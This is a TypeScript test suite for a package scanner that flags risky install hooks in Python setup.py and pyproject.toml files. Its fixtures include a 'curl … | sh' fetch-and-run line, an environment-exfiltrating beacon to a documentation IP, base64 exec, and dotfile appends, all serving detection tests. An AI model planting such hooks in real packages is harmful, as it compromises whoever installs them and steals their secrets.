import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { checkInstallHooks } from './index.js';
import { archiveOf, CheckCollector } from './test-support.js';

const PROJECTS = resolve(import.meta.dirname, '../../../../test/fixtures/package/projects');

async function run(files: Record<string, string>): Promise<CheckCollector> {
  const context = new CheckCollector();
  await checkInstallHooks(archiveOf('demo-1.0.tar.gz', files), context);
  return context;
}

async function setupFindings(setup: string): Promise<CheckCollector> {
  return run({ 'setup.py': setup, 'PKG-INFO': 'Name: demo\nVersion: 1.0\n' });
}

function ids(context: CheckCollector): string[] {
  return context.findings.map((finding) => `${finding.ruleId}:${finding.severity ?? 'default'}`);
}

describe('PKG-INST-001 cmdclass overrides', () => {
  it('rates an install override that runs a command high, naming what it does', async () => {
    const context = await setupFindings(`
import os
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        install.run(self)
        os.system('echo pwned')

setup(name='demo', cmdclass={'install': PostInstall})
`);
    expect(ids(context)).toEqual(['PKG-INST-001:high']);
    expect(context.findings[0]?.message).toContain('starts a process');
    expect(context.findings[0]?.evidence).toBe("cmdclass install: PostInstall: os.system('echo pwned')");
    expect(context.findings[0]?.line).toBe(6);
    expect(context.findings[0]?.member).toBe('demo-1.0/setup.py');
    expect(context.capabilities.map((use) => use.capability)).toEqual(['install-hook']);
  });

  it('rates a plain override medium', async () => {
    const context = await setupFindings(`
from setuptools import setup
from setuptools.command.develop import develop

class Develop(develop):
    def run(self):
        print("installing in development mode")
        super().run()

setup(name='demo', cmdclass=dict(develop=Develop))
`);
    expect(ids(context)).toEqual(['PKG-INST-001:medium']);
  });

  it('follows a dict variable, item assignments, update() and setup(**kwargs)', async () => {
    const context = await setupFindings(`
import subprocess, urllib.request
import setuptools
from setuptools.command.egg_info import egg_info
from setuptools.command.build_py import build_py

def fetch():
    return urllib.request.urlopen('http://203.0.113.9/x').read()

class EggInfo(egg_info):
    def run(self):
        fetch()
        egg_info.run(self)

class BuildPy(build_py):
    def run(self):
        subprocess.Popen(['sh', '-c', 'echo pwned'])
        build_py.run(self)

commands = {}
commands['egg_info'] = EggInfo
commands.update(build_py=BuildPy)
options = dict(name='demo', cmdclass=commands)
setuptools.setup(**options)
`);
    expect(ids(context).sort()).toEqual(['PKG-INST-001:high', 'PKG-INST-001:high']);
    expect(context.findings.map((finding) => finding.message).join('\n')).toContain('makes an HTTP request');
  });

  it('follows a setup.py function that returns the cmdclass dict', async () => {
    const context = await setupFindings(`
import os
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        install.run(self)
        os.system('echo pwned')

def get_cmdclass():
    def unrelated():
        return {'develop': PostInstall}
    commands = {}
    commands['install'] = PostInstall
    return commands

setup(name='demo', cmdclass=get_cmdclass())
`);
    expect(context.findings.map((finding) => finding.evidence)).toEqual([
      "cmdclass install: PostInstall: os.system('echo pwned')",
    ]);
  });

  it('reports an imported command class medium without analysing it', async () => {
    const context = await setupFindings(`
from setuptools import setup
from demo_build.commands import Install
setup(name='demo', cmdclass={'install': Install})
`);
    expect(ids(context)).toEqual(['PKG-INST-001:medium']);
    expect(context.findings[0]?.message).toContain('demo_build.commands.Install');
  });

  it('leaves a compiler-flag build_ext override, a cmake one and stock classes alone', async () => {
    const cext = readFileSync(resolve(PROJECTS, 'benign-cext/setup.py'), 'utf8');
    expect((await setupFindings(cext)).findings).toEqual([]);
    const cmake = await setupFindings(`
import os, subprocess
from setuptools import setup
from setuptools.command.build_ext import build_ext
from setuptools.command.build_py import build_py

class CMakeBuild(build_ext):
    def build_extension(self, ext):
        cfg = os.environ.get('CMAKE_BUILD_TYPE', 'Release')
        subprocess.check_call(['cmake', ext.sourcedir, '-DCMAKE_BUILD_TYPE=' + cfg], cwd=self.build_temp)
        subprocess.check_call(['cmake', '--build', '.'], cwd=self.build_temp)

setup(name='demo', cmdclass={'build_ext': CMakeBuild, 'build_py': build_py})
`);
    expect(cmake.findings).toEqual([]);
    expect(cmake.capabilities).toHaveLength(1);
  });

  it('reports a build_ext override that runs something else or uses the network', async () => {
    const context = await setupFindings(`
import os
from setuptools import setup
from setuptools.command.build_ext import build_ext

class BuildExt(build_ext):
    def run(self):
        os.system('curl http://203.0.113.9/p | sh')
        build_ext.run(self)

setup(name='demo', cmdclass={'build_ext': BuildExt})
`);
    expect(ids(context)).toEqual(['PKG-INST-001:high']);
  });

  it('ignores plain user-invoked commands, rates acting ones low, and records no install hook', async () => {
    const plain = await setupFindings(`
import sys
from setuptools import setup
from setuptools.command.test import test as TestCommand

class PyTest(TestCommand):
    def run_tests(self):
        import pytest
        sys.exit(pytest.main(self.test_args))

setup(name='demo', cmdclass={'test': PyTest})
`);
    expect(plain.findings).toEqual([]);
    expect(plain.capabilities).toEqual([]);
    const acting = await setupFindings(`
import subprocess
from setuptools import Command, setup

class Clean(Command):
    user_options = []
    def run(self):
        subprocess.call(['rm', '-rf', 'build'])

setup(name='demo', cmdclass={'clean': Clean})
`);
    expect(ids(acting)).toEqual(['PKG-INST-001:low']);
    expect(acting.capabilities).toEqual([]);
  });
});

describe('PKG-INST-002 module-level code', () => {
  it('keeps ordinary setup.py code clean', async () => {
    const plain = readFileSync(resolve(PROJECTS, 'benign-plain/setup.py'), 'utf8');
    expect((await setupFindings(plain)).findings).toEqual([]);
    const ordinary = await setupFindings(`
import os, re, sys, subprocess
try:
    from setuptools import setup, find_packages
except ImportError:
    from distutils.core import setup
sys.path.insert(0, os.path.dirname(__file__))
about = {}
with open(os.path.join('demo', '__about__.py')) as f:
    exec(f.read(), about)
exec(compile(open('demo/version.py').read(), 'demo/version.py', 'exec'))
version = subprocess.check_output(['git', 'describe', '--tags']).decode().strip()
if os.environ.get('READTHEDOCS') or 'CI' in os.environ:
    pass
if __name__ == '__main__':
    setup(name='demo', version=version, packages=find_packages())
`);
    expect(ordinary.findings).toEqual([]);
  });

  it('reports processes, network, dynamic code and harvesting at module level, also through local functions', async () => {
    const context = await setupFindings(`
import os, json, base64, urllib.request
from setuptools import setup

def beacon():
    data = json.dumps(dict(os.environ)).encode()
    urllib.request.urlopen('http://203.0.113.9/c', data=data)

beacon()
exec(base64.b64decode('cHJpbnQoMSk='))
if __name__ == '__main__':
    os.system('echo pwned')
setup(name='demo')
`);
    expect(context.findings.map((finding) => [finding.line, finding.severity, finding.evidence])).toEqual([
      [9, 'high', 'beacon()'],
      [10, 'high', "exec(base64.b64decode('cHJpbnQoMSk='))"],
      [12, 'high', "os.system('echo pwned')"],
    ]);
    expect(context.findings[0]?.message).toContain('reads the whole environment, makes an HTTP request');
    expect(context.findings[2]?.message).toContain('starts `echo`');
  });

  it('rates build tools low, project scripts and computed commands medium, shells and inline Python high', async () => {
    const context = await setupFindings(`
import os, subprocess, sys
from setuptools import setup
subprocess.check_call(['cmake', '-S', '.', '-B', 'build'])
subprocess.check_call([sys.executable, 'tools/generate_headers.py'])
subprocess.call(os.environ.get('CC', 'cc').split() + ['-c', 'probe.c'])
subprocess.call([sys.executable, '-c', 'import os; os.system("echo pwned")'])
subprocess.call(['bash', '-c', 'echo pwned'])
n = __import__('multiprocessing').cpu_count()
setup(name='demo')
`);
    expect(context.findings.map((finding) => [finding.line, finding.severity])).toEqual([
      [4, 'low'],
      [5, 'medium'],
      [6, 'medium'],
      [7, 'high'],
      [8, 'high'],
    ]);
  });

  it('rates a version-file write low and a write outside the project high', async () => {
    const context = await setupFindings(`
import os
from setuptools import setup
with open('demo/_version.py', 'w') as f:
    f.write('__version__ = "1.0"')
with open(os.path.expanduser('~/.bashrc'), 'a') as rc:
    rc.write('echo pwned')
profile = os.path.join(os.path.expanduser('~'), '.profile')
with open(profile, 'a') as handle:
    handle.write('echo pwned')
setup(name='demo')
`);
    expect(context.findings.map((finding) => `${finding.line}:${finding.severity}`)).toEqual([
      '4:low',
      '6:high',
      '9:high',
    ]);
  });
});

describe('setup.py files written like real projects', () => {
  it('keeps a numpy-style git_version helper, versioneer and a pyyaml-style cmdclass clean', async () => {
    const context = await setupFindings(`
import os, subprocess, sys
import versioneer
from setuptools import setup, Command
from setuptools.command.build_ext import build_ext as _build_ext
try:
    from wheel.bdist_wheel import bdist_wheel
except ImportError:
    bdist_wheel = None

def git_version():
    def _minimal_ext_cmd(cmd):
        env = {}
        for k in ['SYSTEMROOT', 'PATH', 'HOME']:
            v = os.environ.get(k)
            if v is not None:
                env[k] = v
        return subprocess.check_output(cmd, stderr=subprocess.STDOUT, env=env)
    try:
        return _minimal_ext_cmd(['git', 'rev-parse', 'HEAD']).strip().decode('ascii')
    except (subprocess.SubprocessError, OSError):
        return 'Unknown'

class build_ext(_build_ext):
    def run(self):
        try:
            _build_ext.run(self)
        except Exception:
            print('skipping the C extension')

class test(Command):
    user_options = []
    def run(self):
        sys.path.insert(0, 'tests/lib')
        import test_all
        test_all.main([])

cmdclass = {'build_ext': build_ext, 'test': test}
if bdist_wheel:
    cmdclass['bdist_wheel'] = bdist_wheel
GIT_REVISION = git_version()
if __name__ == '__main__':
    setup(name='demo', version=versioneer.get_version(), cmdclass=cmdclass)
    setup(name='demo2', cmdclass=versioneer.get_cmdclass())
`);
    expect(context.findings).toEqual([]);
  });

  it('rates a psutil-style compiler probe medium, as its command is computed', async () => {
    const context = await setupFindings(`
import os, shlex, subprocess, sys, sysconfig, tempfile
from setuptools import setup

def get_cc():
    return shlex.split(os.getenv('CC') or sysconfig.get_config_var('CC') or 'cc')

def unix_can_compile(code):
    with tempfile.TemporaryDirectory() as tempdir:
        src = os.path.join(tempdir, 'test.c')
        with open(src, 'w') as f:
            f.write(code)
        return subprocess.call(get_cc() + ['-c', src]) == 0

if not unix_can_compile('#include <linux/ethtool.h>'):
    pass
setup(name='demo', cmdclass={'build_ext': BuildExt if os.cpu_count() > 1 else build_ext})
`);
    expect(context.findings.map((finding) => [finding.line, finding.severity])).toEqual([[15, 'medium']]);
  });

  it('resolves a command through recursive helpers without looping', async () => {
    const context = await setupFindings(`
import subprocess
from setuptools import setup
def run(cmd, retries):
    if retries:
        return run(cmd, retries - 1)
    return subprocess.call(cmd)
run(['curl', 'http://203.0.113.9/x'], 3)
setup(name='demo')
`);
    expect(context.findings.map((finding) => [finding.line, finding.severity])).toEqual([[8, 'high']]);
  });
});

describe('PKG-INST-003 build backends', () => {
  const pyproject = (table: string): string => `[project]\nname = "demo"\n\n[build-system]\n${table}\n`;

  it('reports an in-tree backend medium and records it as an install hook', async () => {
    const context = await run({
      'pyproject.toml': pyproject('requires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]'),
      '_build/backend.py': 'from setuptools.build_meta import *\n',
    });
    expect(ids(context)).toEqual(['PKG-INST-003:default']);
    expect(context.findings[0]?.line).toBe(6);
    expect(context.capabilities[0]?.path).toBe('_build/backend.py');
  });

  it('rates a backend path leaving the project, or a missing backend module, high', async () => {
    const outside = await run({
      'pyproject.toml': pyproject('build-backend = "backend"\nbackend-path = ["../.."]'),
    });
    expect(ids(outside)).toEqual(['PKG-INST-003:high']);
    const missing = await run({
      'pyproject.toml': pyproject('build-backend = "backend:api"\nbackend-path = ["."]'),
    });
    expect(ids(missing)).toEqual(['PKG-INST-003:high']);
  });

  it('reports an odd backend the sdist ships, and accepts the standard ones', async () => {
    const odd = await run({
      'pyproject.toml': pyproject('build-backend = "buildhelper.api"'),
      'buildhelper/api.py': 'import os\n',
    });
    expect(ids(odd)).toEqual(['PKG-INST-003:default']);
    for (const backend of ['hatchling.build', 'setuptools.build_meta', 'poetry.core.masonry.api', 'maturin'])
      expect((await run({ 'pyproject.toml': pyproject(`build-backend = "${backend}"`) })).findings).toEqual(
        [],
      );
    expect(
      (
        await run({
          'pyproject.toml': pyproject('build-backend = "flit_core.buildapi"\nbackend-path = ["."]'),
        })
      ).findings,
    ).toEqual([]);
  });

  it('reports [tool.setuptools.cmdclass] and setup.cfg cmdclass overrides as PKG-INST-001', async () => {
    const context = await run({
      'pyproject.toml':
        '[build-system]\nbuild-backend = "setuptools.build_meta"\n\n[tool.setuptools.cmdclass]\n' +
        'install = "demo._hooks.PostInstall"\nbuild_ext = "demo._hooks.BuildExt"\n',
    });
    expect(context.findings.map((finding) => [finding.ruleId, finding.severity, finding.line])).toEqual([
      ['PKG-INST-001', undefined, 5],
    ]);
    expect(context.capabilities).toHaveLength(1);
    const cfg = await run({
      'setup.cfg':
        '[metadata]\nname = demo\n\n[options]\ncmdclass =\n    develop = demo._hooks.Develop\n    test = demo._hooks.Test\n',
    });
    expect(cfg.findings.map((finding) => [finding.ruleId, finding.line, finding.evidence])).toEqual([
      ['PKG-INST-001', 6, 'cmdclass develop: demo._hooks.Develop'],
    ]);
  });

  it('fails closed on a pyproject.toml that is not TOML', async () => {
    await expect(run({ 'pyproject.toml': '[build-system\n' })).rejects.toThrow(/pyproject\.toml:1/);
  });
});

describe('large setup.py files', () => {
  it('stays linear on names bound many times to names bound many times, and on deep nesting', async () => {
    const chain = Array.from({ length: 8 }, (_, level) =>
      Array.from(
        { length: 60 },
        (_, index) => `v${level} = {'install': Hook${index}} if x else v${level + 1}\n`,
      ).join(''),
    ).join('');
    const nested = `${'A if c else ('.repeat(2000)}B${')'.repeat(2000)}`;
    const started = Date.now();
    const context = await setupFindings(
      `from setuptools import setup\n${chain}v8 = {}\nsetup(name='demo', cmdclass=v0)\nsetup(name='d', cmdclass={'install': ${nested}})\n`,
    );
    expect(Date.now() - started).toBeLessThan(5000);
    expect(context.findings.every((finding) => finding.ruleId === 'PKG-INST-001')).toBe(true);
    await expect(setupFindings('\u0000\uffff def (((( class :\n\tsetup(**')).resolves.toBeDefined();
  });

  it('reads thousands of functions and calls in linear-ish time', async () => {
    const count = 4000;
    const functions = Array.from(
      { length: count },
      (_, index) => `def f${index}():\n    os.path.join('a', 'b')\n    f${index + 1}()\n`,
    ).join('');
    const setup = `import os\nfrom setuptools import setup\n${functions}def f${count}():\n    os.system('echo pwned')\n\nf0()\nsetup(name='demo')\n`;
    const started = Date.now();
    const context = await setupFindings(setup);
    expect(Date.now() - started).toBeLessThan(5000);
    expect(context.findings.map((finding) => finding.evidence)).toEqual(['f0()']);
  });
});
